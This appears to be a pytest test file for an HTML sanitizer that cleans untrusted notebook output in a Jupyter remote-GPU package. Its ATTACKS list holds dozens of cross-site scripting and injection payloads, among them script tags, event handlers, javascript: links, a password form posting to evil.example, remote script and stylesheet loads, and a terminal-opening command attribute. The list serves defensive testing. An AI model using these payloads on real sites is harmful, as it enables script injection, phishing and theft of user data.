"""HTML of a machine that is not trusted: nothing in it acts, loads or reaches further."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from jupyter_remote_gpu.magic.untrusted import html

PREFIX = "m1_"

ATTACKS = [
    "<script>window.pwned=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<img src=http://evil.example/beacon>",
    "<img src='/api/shutdown'>",
    "<img src='data:text/html,<script>1</script>'>",
    "<img/src/onerror=window.pwned=1>",
    "<svg onload=window.pwned=1></svg>",
    "<svg><script>window.pwned=1</script></svg>",
    "<svg><a xlink:href='javascript:window.pwned=1'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "<a href='javascript:window.pwned=1'>x</a>",
    "<a href=' jAvA\nscript:window.pwned=1'>x</a>",
    "<a href='&#106;avascript:window.pwned=1'>x</a>",
    "<a href='data:text/html,x'>x</a>",
    "<a href='/lab?reset'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='https://ok.example' data-commandlinker-command='terminal:create-new'>x</a>",
    "<iframe srcdoc='<script>1</script>'></iframe>",
    "<object data='x.swf'></object><embed src=x>",
    "<form action='https://evil.example'><input name=password><button>go</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'><base href='https://evil'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>body { display: none }</style>",
    "<style>@import 'https://evil.example';</style>",
    "<style>#T_x { background: url(https://evil.example) }</style>",
    "<style>#T_x { color: red } </style><script>window.pwned=1</script><style>*{}</style>",
    "<style>#T_x, body { position: fixed }</style>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>cover</div>",
    "<div style='background:url(//evil.example)'>x</div>",
    "<div style='margin-top:-500px'>x</div>",
    "<div style='width: expression(window.pwned=1)'>x</div>",
    "<div style='color: red\\;position: fixed'>x</div>",
    "<div class='jp-Dialog lm-Widget'>cover</div>",
    "<div id='jp-main-dock-panel'>x</div>",
    "<details ontoggle=window.pwned=1 open>x</details>",
    "<b onmouseover=window.pwned=1 style='color:red'>x</b>",
    "<template><script>window.pwned=1</script></template>",
    "<!--><script>window.pwned=1</script>-->",
    "<textarea></textarea><script>window.pwned=1</script>",
    "<table background='javascript:window.pwned=1'><tr><td>x</table>",
    "<video><source onerror=window.pwned=1></video>",
]
ALLOWED_ATTRIBUTES = {name for names in html._ATTRIBUTES.values() for name in names}


class Look(HTMLParser):
    """Notes what a page would make of the text."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str]] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(name, value or "") for name, value in attrs]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_in_it_acts(attack: str) -> None:
    found = html.clean(f"<p>before</p>{attack}<p>after</p>", PREFIX).html
    seen = Look(found)
    assert seen.tags <= html.TAGS | {"style"}
    names = {name for name, _ in seen.attributes}
    assert names <= ALLOWED_ATTRIBUTES | html._EVERYWHERE | {"rel", "type"}
    for name, value in seen.attributes:
        assert name != "href" or re.match(r"https?://|mailto:", value)
        assert name != "src" or value.startswith("data:image/")
        assert name != "id" or value.startswith(PREFIX)
        assert name != "class" or "jp-" not in value
    style = " ".join(value for name, value in seen.attributes if name == "style")
    for word in ("url(", "position", "expression", "-500", "@import", "evil"):
        assert word not in style
        assert "<style" not in found or word not in found.partition("</style>")[0]
    assert "before" in found


def test_it_says_whether_anything_acted() -> None:
    assert html.clean("<b onclick=x>b</b>", PREFIX).active
    assert html.clean("<img src=https://x.example/a.png>", PREFIX).active
    assert not html.clean("<table><tr><td>on = 5, a<b</td></tr></table>", PREFIX).active
    assert not html.clean("<img src='data:image/png;base64,aaaa'>", PREFIX).active


def test_ordinary_html_stays_as_it_is() -> None:
    text = (
        '<h3>Title</h3><p>a <b>bold</b> <a href="https://x.example/?q=1#f"'
        ' rel="noopener noreferrer">link</a></p><ul><li>one</li></ul>'
        '<div style="color: red; text-align: center">red</div>'
        '<img src="data:image/png;base64,iVBORw0KGgo=" width="10">'
        '<details open=""><summary>more</summary>text</details>'
    )
    assert html.clean(text, PREFIX).html == text


def test_a_frame_keeps_its_table() -> None:
    pandas = pytest.importorskip("pandas")
    frame = pandas.DataFrame({"a": [1, 2], "b": ["<x>", "y"]})
    found = html.clean(frame._repr_html_(), PREFIX)
    assert not found.active and not found.unstyled
    assert 'class="dataframe"' in found.html
    assert found.html.count("<td>") == 4
    assert "&lt;x&gt;" in found.html


STYLED = """<style type="text/css">
#T_ab12_row0_col0, #T_ab12_row1_col0:hover { background-color: #fff7fb; color: rgb(1, 2, 3); }
#T_ab12 td { width: 10em; background: linear-gradient(90deg, #d65f5f 50.0%, transparent 50.0%); }
</style>
<table id="T_ab12"><tbody><tr><td id="T_ab12_row0_col0" class="data row0 col0">1</td></tr></table>
"""


def test_a_styled_frame_keeps_its_colours_under_private_ids() -> None:
    found = html.clean(STYLED, PREFIX)
    assert not found.unstyled
    assert "#m1_T_ab12_row0_col0, #m1_T_ab12_row1_col0:hover" in found.html
    assert "linear-gradient(90deg, #d65f5f 50.0%, transparent 50.0%)" in found.html
    assert 'id="m1_T_ab12_row0_col0"' in found.html
    assert 'class="data row0 col0"' in found.html


def test_a_style_sheet_that_had_to_go_is_told_of() -> None:
    assert html.clean("<style>.sk-top { color: red }</style><p>x</p>", PREFIX).unstyled
    assert not html.clean("<style>.dataframe td { color: red }</style><p>x</p>", PREFIX).unstyled


def test_a_very_long_text_comes_back_empty() -> None:
    assert html.clean("x" * (html.LONGEST + 1), PREFIX).html == ""


def test_formulas_in_html_only_typeset() -> None:
    found = html.clean(r"<p>$x^2$ $\\href{javascript:1}{x}$ $\def\frac{}$</p>", PREFIX).html
    assert "$x^2$" in found
    assert r"\href" not in found
    assert r"\def" not in found
